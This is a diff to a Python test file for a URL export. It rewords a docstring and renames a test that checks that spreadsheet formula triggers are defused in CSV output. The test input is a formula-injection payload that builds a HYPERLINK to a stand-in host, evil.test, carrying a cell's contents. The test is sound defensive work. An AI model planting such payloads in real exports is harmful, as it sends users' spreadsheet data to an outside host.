@@ -1,4 +1,4 @@
-"""The export: one URL a line, as a program reads it back."""
+"""The export: one URL per line, as a program reads it back."""
 
 import csv
 import io
@@ -141,7 +141,7 @@ def test_export_of_nothing(style, text):
 @pytest.mark.parametrize(
     "first", ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d"]
 )
-def test_text_that_is_a_formula_to_a_spreadsheet_is_defused_in_csv(first):
+def test_spreadsheet_formula_is_defused_in_csv(first):
     title = f'{first}HYPERLINK("http://evil.test/?" & A2)'
     outcome = Outcome(State.DONE, "ok", 200, title, error=title, title=title)
     cells, objects = io.StringIO(newline=""), io.StringIO()
